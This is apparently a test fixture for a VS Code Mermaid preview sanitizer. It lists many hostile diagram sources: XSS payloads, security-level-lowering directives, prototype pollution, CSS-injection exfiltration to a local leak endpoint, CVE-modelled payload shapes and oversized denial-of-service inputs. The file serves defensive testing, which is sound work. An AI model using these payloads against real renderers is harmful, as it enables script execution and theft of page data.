/**
 * Diagrams written to break out of the preview: run script, fetch, load remote images or styles,
 * loosen Mermaid's security level, or freeze the page. Each tries to set `window.__pwned`, call
 * `fetch('http://127.0.0.1:1/x')`, or load something from a remote URL.
 *
 * `origin` is the harness's own origin. The page's CSP allows images, styles and fonts from it
 * (as VS Code allows them from `webview.cspSource`), so payloads aimed at `${origin}/leak-…` get
 * past the CSP: only the webview's own sanitizing can stop those.
 */

export interface HostileDiagram {
  name: string;
  source: string;
  /**
   * Inputs that, laid out, would hold the page's only thread for seconds or minutes. They are
   * answered one at a time (never in the document that holds all the others), and each must be
   * answered: with `refusal` when it has one (the preview declines it before any layout, with its
   * reason), else with whatever Mermaid makes of it (a diagram or an error).
   */
  heavy?: boolean;
  /** The start of the error the preview answers a heavy input with, instead of laying it out. */
  refusal?: RegExp;
}

const PWN = 'window.__pwned=true';
const FETCH = "fetch('http://127.0.0.1:1/x')";

export function hostileDiagrams(origin: string): HostileDiagram[] {
  const leak = (name: string) => `${origin}/leak-${name}`;
  const edges5000 = Array.from({ length: 5000 }, (_, i) => `N${i} --> N${(i * 7 + 1) % 5000}`).join('\n');
  const giantLabel = 'word '.repeat(18_000);
  const giantWord = 'x'.repeat(60_000);
  return [
    { name: 'script tag in a label', source: `graph TD\nA["<script>${PWN}</script>"] --> B["<script src='${leak('script')}'></script>"]` },
    { name: 'img onerror in a label', source: `graph TD\nA["<img src=x onerror=${PWN}>"] --> B["<img src='${leak('img')}' onerror=${FETCH}>"]` },
    { name: 'svg onload in a label', source: `graph TD\nA["<svg onload=${PWN}><circle r=5 /></svg>"] --> B["<svg><image href='${leak('svg-image')}' onload=${FETCH} /></svg>"]` },
    {
      name: 'javascript: link and call/callback',
      source: `graph TD\nA[Open] --> B[Call] --> C[Callback]\nclick A href "javascript:${PWN}" "tooltip"\nclick B call eval("${PWN}")\nclick C callback "tooltip <img src=x onerror=${PWN}>"\nclick A "${leak('click-url')}" _blank`,
    },
    {
      name: '%%{init}%% directive lowering the security level',
      source: `%%{init: {"securityLevel": "loose", "secure": [], "htmlLabels": true, "flowchart": {"htmlLabels": true}, "startOnLoad": true, "dompurifyConfig": {"ADD_TAGS": ["script", "iframe"], "ADD_ATTR": ["onerror", "onload"]}}}%%\ngraph TD\nA["<img src=x onerror=${PWN}>"] --> B["<iframe srcdoc='<script>parent.${PWN}</script>'></iframe>"]\nclick A call eval("${PWN}")\nclick B href "javascript:${PWN}"`,
    },
    {
      name: 'frontmatter config lowering the security level',
      source: `---\ntitle: <img src=x onerror=${PWN}>\nconfig:\n  securityLevel: loose\n  htmlLabels: true\n  flowchart:\n    htmlLabels: true\n  arrowMarkerAbsolute: true\n---\ngraph TD\nA["<img src=x onerror=${PWN}>"] --> B\nclick A call eval("${PWN}")`,
    },
    {
      name: 'classDef and style with url() (flowchart grammar)',
      source: `graph TD\nA --> B --> C\nclassDef evil fill:url(${leak('classdef')}),stroke:url(http://127.0.0.1:1/classdef)\nclass A evil\nstyle B fill:url(${leak('style')}),background:url(http://127.0.0.1:1/style)`,
    },
    {
      // State diagrams take the rest of a classDef/style line verbatim: it reaches the live <style> during the render.
      name: 'classDef and style with url() (state diagram, verbatim CSS)',
      source: `stateDiagram-v2\n[*] --> A\nA --> B\nB --> C\nclassDef evil fill:url(${leak('state-classdef')}),background-image:url(http://127.0.0.1:1/state),cursor:url(${leak('cursor')}),auto\nclass A evil\nclassDef evil2 stroke:image-set("${leak('image-set')}" 1x);mask:url(${leak('mask')}#m)\nclass B evil2\nstyle C fill:url(${leak('state-style')})`,
    },
    {
      name: 'page-wide rules and @font-face through classDef',
      source: `stateDiagram-v2\n[*] --> A\nA --> B\nclassDef evil fill:#f00} @import url(${leak('import')}); body{background:url(${leak('body-bg')})} @font-face{font-family:x;src:url(${leak('font-face')})} .x{color:red\nclass A evil`,
    },
    { name: '@import through classDef', source: `stateDiagram-v2\n[*] --> A\nA --> B\nclassDef evil fill:#0f0;@import '${leak('import2')}';\nclass B evil` },
    {
      name: '</style><script> through classDef and style',
      source: `stateDiagram-v2\n[*] --> A\nA --> B\nclassDef evil fill:#f00</style><script>${PWN}</script><style>\nclass A evil\nstyle B fill:#0f0</style><img src=x onerror=${PWN}><style>\ngraph TD`,
    },
    {
      name: 'expression(), behavior and -moz-binding in styles',
      source: `stateDiagram-v2\n[*] --> A\nA --> B\nclassDef evil width:expression(${PWN}),behavior:url(${leak('htc')}),-moz-binding:url(${leak('binding')}#x)\nclass A evil\nstyle B x:expression(${PWN})`,
    },
    {
      name: 'HTML entities spelling out markup',
      source: `graph TD\nA["#lt;img src=x onerror=${PWN}#gt;"] --> B["&lt;script&gt;${PWN}&lt;/script&gt;"] --> C["#60;svg onload=${PWN}#62;"] --> D["&#60;img src=${leak('entity')}&#62;"]`,
    },
    { name: 'iframe in a label', source: `graph TD\nA["<iframe src='javascript:${PWN}'></iframe>"] --> B["<iframe src='${leak('iframe')}'></iframe>"] --> C["<iframe srcdoc='<script>parent.${PWN}</script>'></iframe>"]` },
    { name: '<a href> in labels', source: `graph TD\nA["<a href='javascript:${PWN}'>click</a>"] --> B["<a href='${leak('anchor')}'>link</a>"] --> C["<a xlink:href='javascript:${PWN}'>x</a>"]` },
    {
      name: 'foreignObject payloads',
      source: `graph TD\nA["<foreignObject><body onload=${PWN}><img src='${leak('fo')}'></body></foreignObject>"] --> B["<svg><foreignObject><iframe src='javascript:${PWN}'></iframe></foreignObject></svg>"]`,
    },
    {
      name: 'themeCSS and fontFamily directives',
      source: `%%{init: {"themeCSS": ".node rect { fill: url(${leak('themecss')}) } @import url(${leak('themecss-import')});", "fontFamily": "x; background:url(${leak('font')})"}}%%\ngraph TD\nA --> B`,
    },
    {
      name: 'themeVariables directive and frontmatter config',
      source: `---\nconfig:\n  themeCSS: ".node rect { fill: url(${leak('fm-themecss')}) }"\n  themeVariables:\n    lineColor: "red; background:url(${leak('fm-theme-var')})"\n    fontFamily: "a;} body{background:url(${leak('fm-font')})"\n---\ngraph TD\nA --> B`,
    },
    { name: 'prototype pollution through a directive', source: `%%{init: {"__proto__": {"__pwned": true}, "constructor": {"prototype": {"__pwned": true}}, "flowchart": {"__proto__": {"__pwned": true}}}}%%\ngraph TD\nA --> B` },
    {
      name: 'sequence diagram links and markup',
      source: `sequenceDiagram\nparticipant A as <img src=x onerror=${PWN}>\nA->>B: <script>${PWN}</script>\nlink A: Dashboard @ javascript:${PWN}\nlinks B: {"Repo": "javascript:${PWN}", "Img": "${leak('seq-link')}"}\nNote over A,B: <iframe src="${leak('seq-note')}"></iframe>`,
    },
    {
      name: 'class diagram callback and link',
      source: `classDiagram\nclass Evil {\n  +<img src=x onerror=${PWN}>()\n}\nlink Evil "javascript:${PWN}"\ncallback Evil "eval" "tooltip"\nclick Evil call eval("${PWN}")`,
    },
    {
      name: 'gantt click handlers',
      source: `gantt\ndateFormat YYYY-MM-DD\ntitle <img src=x onerror=${PWN}>\nsection S\nTask :a1, 2024-01-01, 30d\nclick a1 href "javascript:${PWN}"\nclick a1 call eval("${PWN}")`,
    },
    { name: 'markdown string and KaTeX in labels', source: `graph TD\nA["\`**bold** <img src=x onerror=${PWN}>\`"] --> B["$$\\href{javascript:${PWN}}{x}$$"] --> C["$$\\url{${leak('katex')}}$$"]` },
    { name: 'image and icon shapes with remote URLs', source: `flowchart TD\nA@{ img: "${leak('img-shape')}", label: "img", pos: "t", h: 60 }\nB@{ img: "http://127.0.0.1:1/img-shape", label: "img2" }\nC@{ icon: "fa:fa-user", label: "icon" }\nA --> B --> C` },
    { name: 'pie title and mindmap markup', source: `pie title <img src=x onerror=${PWN}><script>${PWN}</script>\n"<img src=${leak('pie')}>" : 1\n"b" : 2` },
    { name: 'style element inside a label', source: `graph TD\nA["<style>@import url(${leak('label-style')}); *{background:url(${leak('label-style-bg')})}</style>x"] --> B` },
    { name: 'use and xlink:href to an external SVG', source: `graph TD\nA["<svg><use href='${leak('use')}#x'/><use xlink:href='http://127.0.0.1:1/use#x'/></svg>"] --> B` },
    { name: 'data: URLs', source: `graph TD\nA --> B\nclick A href "data:text/html,<script>${PWN}</script>"\nclick B href "data:image/svg+xml,<svg onload='${PWN}'/>"` },
    { name: 'giant label', source: `graph TD\nA["${giantLabel}"] --> B`, heavy: true },
    { name: 'giant single word', source: `graph TD\nA["${giantWord}"] --> B`, heavy: true, refusal: /^This line has a word longer than 5000 characters;/ },
    { name: '100,000-character input', source: `graph TD\n${'A --> B\n'.repeat(12_499)}`.slice(0, 100_000), heavy: true, refusal: /^This diagram has 12500 statements;/ },
    { name: 'over 100,000 characters', source: `graph TD\nA["${'word '.repeat(20_100)}"] --> B`, heavy: true, refusal: /^This diagram has 100520 characters;/ },
    { name: '5,000-edge graph', source: `graph TD\n${edges5000}`, heavy: true, refusal: /^This diagram has 5001 statements;/ },
    { name: '5,000 edges on one line', source: `graph LR\n${Array.from({ length: 5001 }, (_, i) => `N${i}`).join(' --> ')}`, heavy: true, refusal: /^Edge limit exceeded\./ },
    ...advisoryDiagrams(leak),
  ];
}

/** The advisory payloads alone, with leaks pointing at `origin` (the reliability table quotes them). */
export function advisoryPayloads(origin: string): HostileDiagram[] {
  return advisoryDiagrams((name) => `${origin}/leak-${name}`);
}

/**
 * Payload shapes from Mermaid's published XSS and CSS-injection advisories, written from the
 * advisories' descriptions (not copied exploit code), one or more per sink they name, plus the
 * usual filter-evasion spellings of each.
 */
function advisoryDiagrams(leak: (name: string) => string): HostileDiagram[] {
  const img = (tag: string) => `<img src=x onerror=${PWN} data-tag=${tag}>`;
  return [
    // CVE-2021-35513 (before 8.11.0): the "antiscript" filter removed <script> by pattern; nested,
    // mixed-case and entity-spelled forms got through it.
    { name: 'CVE-2021-35513: nested and mixed-case script tags', source: `graph TD\nA["<scr<script>ipt>${PWN}</scr</script>ipt>"] --> B["<ScRiPt>${PWN}</sCrIpT>"] --> C["<script\t>${PWN}</script >"]` },
    { name: 'CVE-2021-35513: javascript: spelled with entities, tabs and case', source: `graph TD\nA --> B --> C --> D --> E\nclick A href "java&#115;cript:${PWN}"\nclick B href "java\tscript:${PWN}"\nclick C href "JaVaScRiPt:${PWN}"\nclick D href "  javascript:${PWN}"\nclick E href "javascript&colon;${PWN}"` },
    { name: 'CVE-2021-35513: event handlers without quotes, with slashes and odd case', source: `graph TD\nA["<img/src=x/onerror=${PWN}>"] --> B["<svg/OnLoad=${PWN}>"] --> C["<img src=x oNeRrOr=${FETCH}>"] --> D["<body onpageshow=${PWN}>"]` },
    // CVE-2021-43861 (before 8.13.8): class diagram generics (~T~ becomes <T>) turned into markup after sanitizing.
    { name: 'CVE-2021-43861: class generics ~…~ becoming tags', source: `classDiagram\nclass Evil~img src=x onerror=${PWN}~\nclass Box~svg onload=${PWN}~ {\n  +List~img src=${leak('generic')} onerror=${FETCH}~ items\n  +get~script~() ~script~\n}\nEvil <|-- Box` },
    { name: 'CVE-2021-43861: class member and annotation markup', source: `classDiagram\nclass Evil {\n  <<${img('annotation')}>>\n  +String ${img('member')}\n  +run(${img('param')}) ${img('return')}\n}\nclass Other\nEvil --> Other : ${img('relation')}\nnote for Evil "${img('note')}"` },
    // CVE-2022-31108 (before 9.1.3): CSS injected through directives and classDef reached the page's styles.
    { name: 'CVE-2022-31108: themeCSS breaking out of the diagram scope', source: `%%{init: {"themeCSS": "} body, html { background: url(${leak('themecss-body')}) } #x {"}}%%\ngraph TD\nA --> B` },
    { name: 'CVE-2022-31108: fontFamily closing the style element', source: `%%{init: {"fontFamily": "x</style><img src=x onerror=${PWN}><style>", "themeVariables": {"fontFamily": "a;} * { background-image: url(${leak('font-var')}) } b{"}}}%%\ngraph TD\nA --> B` },
    { name: 'CVE-2022-31108: attribute selectors and custom properties to exfiltrate page text', source: `%%{init: {"themeCSS": "input[value^=a] { background: url(${leak('exfil-a')}) } a[href^=http] { background: url(${leak('exfil-link')}) } :root { --x: url(${leak('root-var')}) }"}}%%\ngraph TD\nA --> B` },
    { name: 'CVE-2022-31108: themeVariables carrying url() and rule breaks', source: `%%{init: {"themeVariables": {"lineColor": "red; background: url(${leak('line')})", "fontFamily": "x; background: url(${leak('tv-font')})", "primaryBorderColor": "url(${leak('border')})"}}}%%\ngraph TD\nA --> B` },
    // CVE-2023-45809 and its kin: sequence diagram actors, aliases and actor menus.
    { name: 'CVE-2023-45809: sequence actor and alias HTML', source: `sequenceDiagram\nparticipant A as ${img('alias')}\nactor B as <svg onload=${PWN}>\nA->>B: hi\nB-->>A: ${img('message')}` },
    { name: 'CVE-2023-45809: sequence actor menus (links, properties, details)', source: `sequenceDiagram\nparticipant A\nparticipant B\nlinks A: {"Evil": "javascript:${PWN}", "Leak": "${leak('actor-menu')}"}\nproperties B: {"class": "x" onmouseover="${PWN}", "icon": "${leak('actor-icon')}"}\ndetails B: {"x": "${img('details')}"}\nA->>B: hello` },
    { name: 'sequence boxes, notes and rect colours', source: `sequenceDiagram\nbox rgb(0,0,0) ${img('box')}\nparticipant A\nend\nrect url(${leak('rect')})\nA->>A: self\nend\nNote right of A: ${img('note')}\ncritical ${img('critical')}\nA->>A: x\nend` },
    // CVE-2025-54881 (10.9.0–11.9.0): sequence labels measured through innerHTML; KaTeX math in labels.
    { name: 'CVE-2025-54881: sequence labels measured through innerHTML', source: `sequenceDiagram\nA->>B: ${img('measure')}<br/>${img('measure2')}\nautonumber\nloop ${img('loop')}\nA->>B: x\nend` },
    { name: 'CVE-2025-54881: KaTeX math in sequence labels', source: `sequenceDiagram\nA->>B: $$\\text{<img src=x onerror=${FETCH}>}$$\nB->>A: $$\\href{javascript:${FETCH}}{click}$$` },
    {
      name: 'CVE-2025-54881: math plus an image in sequence labels (image fetched while Mermaid measures the label)',
      source: `sequenceDiagram\nparticipant A as $$x$$ <img src=${leak('katex-alias')}>\nA->>B: $$x^2$$ <img src=${leak('katex-message')} onerror=${FETCH}>\nNote over A: $$y$$ <img src=${leak('katex-note')}>`,
    },
    { name: 'KaTeX \\htmlData, \\includegraphics and \\url', source: `graph TD\nA["$$\\htmlData{onerror=${PWN}}{x}$$"] --> B["$$\\includegraphics{${leak('katex-img')}}$$"] --> C["$$\\url{javascript:${PWN}}$$"]` },
    // CVE-2025-54880 (11.x): architecture diagram icons and icon text passed to d3 .html().
    { name: 'CVE-2025-54880: architecture group and service titles with markup', source: `architecture-beta\n    group api(cloud)[${img('group')}]\n    service web(server)[${img('service')}] in api\n    service db(database)["<svg onload=${PWN}>"] in api\n    web:R -- L:db` },
    { name: 'CVE-2025-54880: architecture text icons and icon names with markup or URLs', source: `architecture-beta\n    service a("<img src=x onerror=${PWN}>")[A]\n    service b(${leak('arch-icon')})[B]\n    service c(logos:<svg onload=${PWN}>)[C]\n    a:R -- L:b` },
    // Other diagram types with text sinks: gantt task names, journey, timeline, mindmap, C4, quadrant, xychart, requirement, ER, git.
    { name: 'gantt task names, sections and link to javascript:', source: `gantt\ndateFormat YYYY-MM-DD\nsection ${img('section')}\n${img('task')} :t1, 2024-01-01, 3d\n<script>${PWN}</script> :t2, after t1, 2d\nclick t2 href "javascript:${PWN}"` },
    { name: 'journey and timeline titles and sections', source: `journey\ntitle ${img('journey')}\nsection ${img('journey-section')}\n  ${img('journey-task')}: 5: ${img('actor')}` },
    { name: 'timeline events', source: `timeline\ntitle ${img('timeline')}\nsection ${img('tl-section')}\n2024 : ${img('event')} : <svg onload=${PWN}>` },
    { name: 'mindmap nodes, icons and classes', source: `mindmap\n  root((${img('root')}))\n    ::icon(fa ${img('icon')})\n    child["<iframe src='${leak('mindmap')}'></iframe>"]\n    :::evil} body{background:url(${leak('mindmap-class')})` },
    { name: 'C4 elements with $link, sprites and styles', source: `C4Context\ntitle ${img('c4')}\nPerson(a, "${img('person')}", "desc", $link="javascript:${PWN}", $sprite="${leak('sprite')}")\nSystem(b, "B")\nRel(a, b, "${img('rel')}")\nUpdateElementStyle(a, $bgColor="red;background:url(${leak('c4-style')})")` },
    { name: 'quadrant chart and xychart labels', source: `quadrantChart\ntitle "${img('quadrant')}"\nx-axis "${img('xaxis')}" --> High\ny-axis Low --> High\nquadrant-1 "${img('q1')}"\nPoint A: [0.3, 0.6]` },
    { name: 'xychart titles and axis labels', source: `xychart-beta\ntitle "${img('xy')}"\nx-axis ["${img('xlabel')}", b]\ny-axis "<svg onload=${PWN}>" 0 --> 10\nbar [1, 2]` },
    { name: 'ER diagram relationship labels and attribute comments', source: `erDiagram\n    CUSTOMER ||--o{ ORDER : "${img('er-rel')}"\n    CUSTOMER {\n        string name "${img('er-comment')}"\n    }` },
    { name: 'git graph commit ids, tags and branch names', source: `gitGraph\n    commit id: "${img('commit')}" tag: "<svg onload=${PWN}>"\n    branch evil\n    checkout evil\n    commit id: "x" type: HIGHLIGHT` },
    { name: 'flowchart edge labels and link styles', source: `graph TD\nA -- "${img('edge')}" --> B\nB -->|<iframe src=${leak('edge-iframe')}>| C\nlinkStyle 0,1 stroke:red;background-image:url(${leak('linkstyle')})` },
    { name: 'flowchart node shapes with markup in every shape', source: `flowchart LR\nA(${img('round')}) --> B([${img('stadium')}]) --> C[[${img('subroutine')}]] --> D[(${img('db')})] --> E((${img('circle')})) --> F>${img('asym')}] --> G{${img('rhombus')}} --> H{{${img('hex')}}}` },
    { name: 'subgraph titles, accTitle and accDescr', source: `graph TD\naccTitle: ${img('acctitle')}\naccDescr { <script>${PWN}</script> }\nsubgraph S1["${img('subgraph')}"]\nA --> B\nend\nsubgraph S2 [<svg onload=${PWN}>]\nC\nend` },
    { name: 'directives: secure keys, maxTextSize, dompurifyConfig and wrapping', source: `%%{init: {"secure": [], "maxTextSize": 999999999, "dompurifyConfig": {"ALLOWED_URI_REGEXP": ".*", "ADD_URI_SAFE_ATTR": ["href"]}, "markdownAutoWrap": false}}%%\n%%{wrap}%%\ngraph TD\nA["<a href='javascript:${PWN}'>x</a>"] --> B\nclick B href "javascript:${PWN}"` },
    { name: 'frontmatter config with displayMode, look and layout tricks', source: `---\nconfig:\n  look: handDrawn\n  layout: elk\n  securityLevel: sandbox\n  themeCSS: "svg { background: url(${leak('fm-svg-bg')}) }"\n  gantt:\n    displayMode: compact\n---\ngraph TD\nA["${img('fm')}"] --> B` },
    { name: 'sankey node names and packet field labels', source: `sankey-beta\n"${img('sankey-a')}",B,10\nB,"<svg onload=${PWN}>",5` },
    { name: 'block diagram labels and styles', source: `block-beta\ncolumns 2\na["${img('block')}"] b["<iframe src='${leak('block-iframe')}'></iframe>"]\nstyle a fill:url(${leak('block-style')})` },
    { name: 'kanban columns, tasks and metadata', source: `kanban\n  todo[${img('kanban-col')}]\n    t1[${img('kanban-task')}]@{ ticket: "<svg onload=${PWN}>", assigned: "${img('assigned')}", priority: 'High' }` },
  ];
}
